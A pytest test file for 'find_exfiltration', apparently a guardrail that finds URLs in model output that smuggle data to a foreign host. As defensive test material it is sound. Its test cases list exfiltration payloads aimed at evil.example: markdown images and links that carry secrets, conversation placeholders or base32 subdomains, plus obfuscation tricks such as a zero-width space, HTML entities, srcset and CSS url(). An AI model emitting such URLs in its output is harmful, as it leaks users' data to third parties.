"""Exfiltration: addresses that carry data to a foreign host."""

import pytest

from pytest_llmprod.guardrails import find_exfiltration

EVIL = "https://evil.example"


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("image", f"![a]({EVIL}/p.png?q=secret)"),
        ("image", f"![a]({EVIL}/{{conversation}})"),
        ("image", f"[x]: {EVIL}/i?q=abc"),
        ("image", "![x](https://mfrggzdfmztwq2lknnwg23tpoa6tcmrt.evil.example/a.png)"),
        ("image", "![x](h\u200bttps://evil.example/?d=abc)"),
        ("image", "![x](https://ana:doe@evil.example/a.png)"),
        ("link", f"[more]({EVIL}/?data=aGVsbG8gd29ybGQ0)"),
        ("link", f"{EVIL}/?q=hello+world+this+is+it"),
        ("link", f'<a href="{EVIL}/?token=0123456789abcdefgh">x</a>'),
        ("html", f'<img src="{EVIL}/x?d=ana">'),
        ("html", "<img src=//evil.example/x?d=ana>"),
        ("html", f'<img srcset="a.png 1x, {EVIL}/x?d=ana 2x">'),
        ("image", "![a](&#104;ttps://evil.example/?d=ana)"),
        ("image", "![a](https&colon;//evil.example/?d=ana)"),
        ("html", "<img src=https&#x3a;&#x2F;/evil.example/x?d=ana>"),
        ("css", f"background:url({EVIL}/a?z=ana)"),
    ],
)
def test_an_address_that_carries_data_is_found(kind: str, text: str) -> None:
    (finding,) = find_exfiltration(text)

    assert finding.kind == kind
    assert text[finding.start : finding.end] == finding.text
    assert "evil.example" in finding.value


@pytest.mark.parametrize(
    "text",
    [
        f"![logo]({EVIL}/logo.png?width=300&v=2)",
        f"[docs]({EVIL}/guide/start?utm_source=mail)",
        f"see {EVIL}/commit/3f786850e387550fdab836ed7e6dc881de23001b",
        "a // comment, and ftp://evil.example/?q=0123456789abcdefgh",
        "![a](images/plan.png?x=secret)",
        "http://[broken",
        f"![logo]({EVIL}/logo.png?width=300&amp;v=2)",
        f"<img srcset='a.png 1x'> {EVIL}/logo.png?d=ana",
    ],
)
def test_an_ordinary_address_is_not_found(text: str) -> None:
    assert find_exfiltration(text) == []


def test_own_hosts_may_be_told_anything() -> None:
    text = "![a](https://img.shop.example/p.png?user=ana)"

    assert find_exfiltration(text)
    assert not find_exfiltration(text, own_hosts=["shop.example"])
    assert find_exfiltration(text, own_hosts=["op.example"])
